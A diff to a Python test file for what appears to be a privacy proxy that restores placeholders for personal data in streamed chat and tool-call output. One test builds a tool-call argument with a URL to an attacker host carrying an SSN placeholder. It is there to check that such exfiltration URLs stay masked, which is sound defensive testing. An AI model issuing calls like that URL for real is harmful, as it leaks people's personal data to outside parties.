@@ -10,6 +10,7 @@ from cogate.policies.restore import VaultRestorer as Restorer
 from cogate.policies.schema import PolicyError, policy_from_data
 from cogate.policies.urls import UrlGuard
 from cogate.policies.vault.memory import Vault
+from cogate.proxy.surfaces.chat_stream import ChatStreamRestorer
 
 SSN, MAIL = "536-22-8841", "eleanor@example.com"
 
@@ -119,7 +120,7 @@ def test_streamed_url_at_every_split(vault) -> None:
 
 
 def test_streamed_tool_call_arguments_keep_url_placeholders(vault) -> None:
-    restorer = Restorer(vault).stream()
+    restorer = ChatStreamRestorer(Restorer(vault).text)
     args = json.dumps({"url": "https://attacker.example/c?ssn=[SSN_1]", "who": "[PERSON_1]"})
     events = []
     for i in range(0, len(args), 7):
